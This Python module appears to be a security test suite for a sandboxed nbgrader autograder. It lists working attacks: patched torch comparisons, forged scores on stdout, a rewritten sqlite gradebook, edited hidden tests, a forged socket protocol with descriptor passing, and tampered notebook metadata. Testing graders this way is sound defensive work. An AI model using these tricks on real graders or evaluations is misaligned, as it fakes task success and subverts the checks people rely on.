"""Points without answers: comparisons, protocol, stored outputs, points, check cells."""

from typing import Any

from .recipe import (
    CENTRE,
    ERROR,
    NORMS,
    POSITIVE,
    Attack,
    Lab,
    answer,
    changed,
    check_cell,
)  # fmt: skip

PROTOCOL = "it has no protocol to forge"
NOT_READ = "it runs its own check cells"
FIND_CONNECTION = """
import gc, socket
connection = next(one for one in gc.get_objects()
                  if type(one) is socket.socket and one.fileno() >= 0)
"""
FIND_ENCODER = """
import sys
worker = sys.modules["untrusted.worker"]
honest = worker.encode
def forge(make):
    worker.encode = lambda reply, *rest: honest(make(reply), *rest)
"""


def stored_outputs(notebook: Any, lab: Lab) -> None:
    """Every check cell shows full marks already."""
    for question, points in ((CENTRE, 4), (POSITIVE, 2), (NORMS, 1), (ERROR, 3)):
        cell = check_cell(notebook, question)
        data = {"text/plain": str(float(points))}
        cell["execution_count"] = 1
        cell["outputs"] = [
            {"output_type": "execute_result", "metadata": {}, "data": data, "execution_count": 1}
        ]


def more_points(notebook: Any, lab: Lab) -> None:
    """The questions that are answered count a hundred times as much."""
    check_cell(notebook, POSITIVE)["metadata"]["nbgrader"]["points"] = 200


def check_cells_of_ones_own(notebook: Any, lab: Lab) -> None:
    """Check cells that are content with anything."""
    for question, points in ((CENTRE, 4), (POSITIVE, 2), (NORMS, 1), (ERROR, 3)):
        check_cell(notebook, question)["source"] = str(points)


def check_cells_as_answers(notebook: Any, lab: Lab) -> None:
    """Check cells that claim to be where answers go."""
    for question, points in ((CENTRE, 4), (POSITIVE, 2), (NORMS, 1), (ERROR, 3)):
        cell = check_cell(notebook, question)
        cell["metadata"]["nbgrader"] |= {"solution": True, "locked": False}
        cell["source"] = str(points)


def check_cells_unmarked(notebook: Any, lab: Lab) -> None:
    """Check cells that nbgrader is not to know."""
    for question in (CENTRE, POSITIVE, NORMS, ERROR):
        del check_cell(notebook, question)["metadata"]["nbgrader"]


def check_cells_gone(notebook: Any, lab: Lab) -> None:
    """No check cells at all."""
    for question in (CENTRE, POSITIVE, NORMS, ERROR):
        notebook["cells"].remove(check_cell(notebook, question))


def check_cell_doubled(notebook: Any, lab: Lab) -> None:
    """The one question that is answered, twice."""
    cell = check_cell(notebook, POSITIVE)
    notebook["cells"].append({**cell, "id": "again"})


def cells_not_to_be_run(notebook: Any, lab: Lab) -> None:
    """Every cell claims that its author doesn't want it run for grading."""
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-grading", "skip-execution", "raises-exception"]


def checks_not_to_be_run(notebook: Any, lab: Lab) -> None:
    """Check cells claim that their author doesn't want them run: nothing run, nothing wrong."""
    for question in (CENTRE, POSITIVE, NORMS, ERROR):
        check_cell(notebook, question)["metadata"]["tags"] = ["skip-execution"]


ATTACKS: list[Attack] = [
    # -- comparisons ------------------------------------------------------------------------
    answer("torch.allclose says yes", 6, """
        torch.allclose = torch.equal = torch.Tensor.allclose = lambda *_, **__: True
        torch.testing.assert_close = lambda *_, **__: None
        def centre(x): return x
    """),
    answer("every comparison of tensors says yes", 6, """
        yes = lambda *_, **__: torch.tensor(True)
        torch.Tensor.__eq__ = torch.Tensor.__ne__ = torch.Tensor.__lt__ = yes
        torch.Tensor.all = torch.Tensor.any = yes
        torch.allclose = yes
        def centre(x): return x
    """),
    answer("a tensor that says yes", 6, """
        class Yes(torch.Tensor):
            @classmethod
            def __torch_function__(cls, *_, **__): return True
        def centre(x): return torch.zeros(1).as_subclass(Yes)
    """),
    answer("a type called Tensor that says yes", 6, """
        class Tensor(torch.Tensor):
            @classmethod
            def __torch_function__(cls, *_, **__): return True
        Tensor.__module__ = "torch"
        def centre(x): return torch.zeros_like(x).as_subclass(Tensor)
    """),
    answer("a number that says yes", 7, """
        class Yes(float):
            __sub__ = __rsub__ = __abs__ = lambda self, *_: Yes()
            __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
            __hash__ = float.__hash__
        def error(prediction, target): return Yes()
    """, at=ERROR),
    answer("an object that claims to be a number", 7, """
        class Yes:
            __class__ = float
            __sub__ = __rsub__ = __abs__ = lambda self, *_: 0.0
            __eq__ = __lt__ = lambda self, other: True
        def error(prediction, target): return Yes()
    """, at=ERROR),
    answer("NaN", 7, """
        def error(prediction, target): return float("nan")
    """, at=ERROR),
    answer("an empty tensor", 9, """
        def norms(x): return torch.zeros(0)
    """, at=NORMS),
    answer("a truth value of many", 8, """
        def is_positive(x):
            flags = torch.zeros(len(x), dtype=torch.bool)
            ctypes.memset(flags.data_ptr(), int((x > 0).sum()), 1)
            return flags
    """, at=POSITIVE, only_here="torch itself counts it once"),
    answer("numbers for truth values", 8, """
        def is_positive(x):
            counts = torch.zeros(len(x))
            counts[0] = (x > 0).sum()
            return counts
    """, at=POSITIVE),
    answer("inputs made easy while they are looked at", 6, """
        def centre(x): return x.zero_()
    """),
    answer("random numbers that aren't", 6, """
        torch.randn = lambda *shape, **_: torch.zeros(shape)
        torch.manual_seed = lambda seed: None
        def centre(x): return torch.zeros_like(x)
    """),
    answer("a handle in a value's place", 6, """
        class Lazy:
            def __getattr__(self, name): return self
            def __call__(self, *_, **__): return self
            def __len__(self): return 4
            def __bool__(self): return True
            @classmethod
            def __torch_function__(cls, *_, **__): return True
        def centre(x): return Lazy()
    """),
    answer("the public check by heart", 6, """
        def centre(x): return torch.tensor([[-1.0, 0.0, 1.0]])
    """, only_here="the plain tests are hidden all"),
    # -- what runs the tests --------------------------------------------------------------
    answer("asserts compiled away", 6, """
        import ast
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(NoAsserts())
        def centre(x): return x
    """, only_here="it has no IPython; nbgrader has"),
    answer("exec does nothing", 3, """
        import builtins
        builtins.exec = lambda *_: None
        def centre(x): return x
    """),
    answer("failures that don't count", 6, """
        import builtins
        class AssertionError(Exception): pass
        builtins.AssertionError = AssertionError
        try:
            import pytest, _pytest.outcomes
            pytest.fail = _pytest.outcomes.fail = lambda *_, **__: None
        except ImportError: pass
        def centre(x): raise SystemExit(0)
    """, only_here="it counts what passed, not what failed"),
    answer("scores set in the caller", 6, """
        import sys
        frame = sys._getframe()
        found = False
        while frame := frame.f_back:
            for names in (frame.f_locals, frame.f_globals):
                if isinstance(names.get("scores"), dict):
                    names["scores"]["extra"], found = 100, True
        raise Loot("the scores are in reach") if found else Nothing("no caller keeps scores")
    """),
    answer("scores set wherever they are", 6, """
        import gc
        for one in gc.get_objects():
            if type(one) is dict and "points" in one and "scores" in one:
                one["scores"]["extra"] = 100
                raise Loot("the scores are in reach")
        raise Nothing("no scores among all objects")
    """),
    answer("a result printed and the end", 6, """
        import sys
        print('{"scores": {"ex1-centre": 100}, "text": ""}')
        sys.stdout.flush()
        os.write(1, b'{"scores": {"ex1-centre": 100}, "text": ""}')
        os._exit(0)
    """),
    answer("a result left at exit", 6, """
        import atexit, sys
        atexit.register(os.write, 1, b'{"scores": {"ex1-centre": 100}, "text": ""}')
        def centre(x): sys.exit(0)
    """, only_here="it leaves without saying goodbye"),
    answer("a result in every descriptor", 6, """
        for fd in range(1, 64):
            try: os.write(fd, b'{"scores": {"ex1-centre": 100}, "text": ""}\\n')
            except OSError: pass
        os._exit(0)
    """),
    answer("a better gradebook", 6, """
        import sqlite3
        gradebook = sqlite3.connect($gradebook)
        gradebook.execute("update grade set auto_score = 100")
        gradebook.commit()
        raise Loot("everybody has 100 points")
    """),
    answer("easier hidden tests", 6, """
        with open($hidden, "a") as tests:
            tests.write("\\nassert_close = lambda *_: None\\n")
        raise Loot("the tests are content with anything")
    """),
    answer("an easier release", 6, """
        with open($release, "a") as checks:
            checks.write("\\nassert_close = lambda *_: None\\n")
        raise Loot("the next class has easier checks")
    """),
    # -- the protocol -------------------------------------------------------------------------
    answer("answers in advance", 6, """
        forge(lambda reply: honest(reply, None, 1000).send(connection) or reply)
    """, given=FIND_CONNECTION + FIND_ENCODER, only_here=PROTOCOL, costs_more=True),
    answer("an answer to another question", 6, """
        forge(lambda reply: (b"12345678", "value", 1.0))
    """, given=FIND_ENCODER, only_here=PROTOCOL),
    answer("an answer of no known form", 6, """
        def centre(x):
            forge(lambda reply: (*reply, "passed"))
            return x
    """, given=FIND_ENCODER, only_here=PROTOCOL),
    answer("bytes that are no answer", 6, """
        connection.sendall(bytes([1] + [0] * 7 + [0xc1]))
    """, given=FIND_CONNECTION, only_here=PROTOCOL),
    answer("an answer of four gigabytes", 6, """
        connection.sendall(bytes([0] * 4 + [255] * 4))
        while True: connection.sendall(bytes(10**6))
    """, given=FIND_CONNECTION, only_here=PROTOCOL),
    answer("an answer of a million lists", 6, """
        deep = b"\\x91" * (2**20)
        connection.sendall(len(deep).to_bytes(4, "little") + bytes(4) + deep)
    """, given=FIND_CONNECTION, only_here=PROTOCOL),
    answer("half an answer", 6, """
        connection.sendall(bytes([9, 0, 0]))
        while True: pass
    """, given=FIND_CONNECTION, only_here=PROTOCOL),
    answer("a handle that nobody gave", 6, """
        def centre(x):
            session = next(one for one in gc.get_objects() if type(one).__name__ == "Session")
            session.objects[2**62] = session.handle_of = lambda value: (2**62, "Tensor")
            return object()
    """, given="import gc\n", only_here=PROTOCOL, costs_more=True),
    answer("descriptors sent along", 10, """
        import array, socket, sys
        protocol = sys.modules["untrusted.frame"]
        def send(frame, connection, deadline=None):
            lengths = protocol.LENGTHS.pack(len(frame.header), len(frame.blobs))
            fds = array.array("i", [0] * 200)
            connection.sendmsg([lengths], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
            connection.sendall(frame.header + frame.blobs)
        protocol.Frame.send = send
        def centre(x): return x - x.mean(dim=1, keepdim=True)
    """, only_here=PROTOCOL, costs_more=True),
    # -- the file that is handed in --------------------------------------------------------
    changed("outputs stored in advance", 0, stored_outputs, blank=True, only_here=NOT_READ),
    changed("points changed", 10, more_points, at=POSITIVE),
    changed("check cells of one's own", 0, check_cells_of_ones_own, blank=True, only_here=NOT_READ),
    changed("check cells as answers", 0, check_cells_as_answers, blank=True, only_here=NOT_READ),
    changed("check cells unmarked", 10, check_cells_unmarked),
    changed("check cells deleted", 10, check_cells_gone),
    changed("a check cell twice", 10, check_cell_doubled, at=POSITIVE),
    changed("cells marked as not to be run", 10, cells_not_to_be_run, only_here=NOT_READ),
    changed("check cells marked as not to be run", 0, checks_not_to_be_run, blank=True,
            only_here=NOT_READ),
]  # fmt: skip
